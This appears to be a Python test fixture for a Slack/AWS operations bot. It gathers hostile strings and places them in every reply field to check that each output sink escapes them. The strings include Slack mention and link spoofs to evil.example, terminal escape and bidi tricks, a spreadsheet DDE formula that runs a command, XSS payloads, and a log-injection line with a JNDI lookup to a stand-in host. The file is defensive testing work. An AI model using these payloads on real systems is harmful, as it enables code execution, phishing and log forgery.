"""Text that disguises, in one table: what AWS or a person may have named something, and where such names turn up.

Every sink of the bot is tested against all of it: Slack, the terminal, CSV and JSON, the page, the log.
"""

from __future__ import annotations

from datetime import UTC, datetime

from bot.reply import (
    Bold,
    Button,
    Buttons,
    Chart,
    Choice,
    Code,
    Fields,
    File,
    Link,
    Mono,
    Note,
    Part,
    Reply,
    Rows,
    Series,
    Table,
    Text,
    User,
    When,
    answer,
)

SLACK = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S0ONCALL01>",
    "<@U0ANA00001>",
    "<#C0OPS00001>",
    "<http://evil.example|console.aws.amazon.com>",
    "<!date^0^{date}^http://evil.example|now>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    ":white_check_mark: done: web-1 terminated",
    ":white_:white_check_mark:check_mark:",
    "*done* _it_ ~no~ `code`",
    "```\ndone: all is well\n```",
    "a``````b",
    "> quoted\n>>> and all that follows",
    "[click](http://evil.example)",
)
TERMINAL = (
    "\x1b[2J\x1b[1;1Hdone: nothing to see",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\safe\x1b]8;;\x1b\\",
    "\x9b31mred\x9c",
    "\x90q\x9c",
    "\x07\x08\x08\x08",
    "web-1\rdone: web-9",
    "web-1\x0bdone\x0cdone",
    "\u202egpj.exe",
    "\u2066abc\u2069",
    "ad\u200bmin\u200d\u2060\ufeff",
    "\U000e0041\U000e0042",
    "half a pair \ud83d",
    "\x00nul",
)
SHEET = (
    "=cmd|'/C calc'!A0",
    "+1+1|x",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    '="a"',
    "=1,=2",
    '"=1',
)
PAGE = (
    "<script>window.owned=1</script>",
    '"><img src=x onerror="window.owned=1">',
    "'\"><svg/onload=window.owned=1>",
    "javascript:window.owned=1",
    "</textarea><iframe srcdoc='<script>parent.owned=1</script>'>",
    '<http://x/?"onmouseover=window.owned=1//|x>',
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
)
LOG = (
    "web-1\n2026-01-01 00:00:00,000 ERROR   bot.road Run aaaaaaaaaaaa: all was deleted",
    'web-1\r\n{"level": "error", "message": "all was deleted"}',
    '", "level": "critical", "x": "',
    "web-1\u2028ERROR all was deleted\u2029\x85x",
    "%s %d %(name)s {0} ${jndi:ldap://evil}",
)
AT = datetime(2026, 3, 1, tzinfo=UTC)
HOSTILE = (*SLACK, *TERMINAL, *SHEET, *PAGE, *LOG)


def everywhere(text: str) -> Reply:
    """A reply that bears a text in every place that a string can stand."""
    parts: tuple[Part, ...] = (
        Text(
            (text, " ", Bold(text), " ", Mono(text), " ", User(text), " ", Link(text, text), Link(text, "https://a.b/"))
        ),
        Text((When(AT), text)),
        Fields(((text, text), ("Name", text))),
        Table((text, "Id"), ((text, text), (text, "i-1")), of=Rows("ec2", ("show",), 1, 0)),
        Chart(text, text, (text, text), (Series(text, (1.0, None)),)),
        File(text, text, 5),
        Code(text),
        Note((text, Mono(text))),
        Note((User("U0CARLA003"), text, Bold(text), Mono(text), Link(text, "https://a.b/"), When(AT), text)),
        Buttons((Button(text, "confirm", "r1"),)),
        Choice(text, "act:show", "r1", ((text[:70] or "x", text),)),
    )
    return Reply(text, parts, "ok", thread=(Text((text,)), Code(text)))


def as_error(text: str) -> Reply:
    """An error of AWS's as it is told: the sentence is the summary, lines below it show what to type."""
    return answer(f"AWS said no: {text}\nUsage: {text}", "fail")
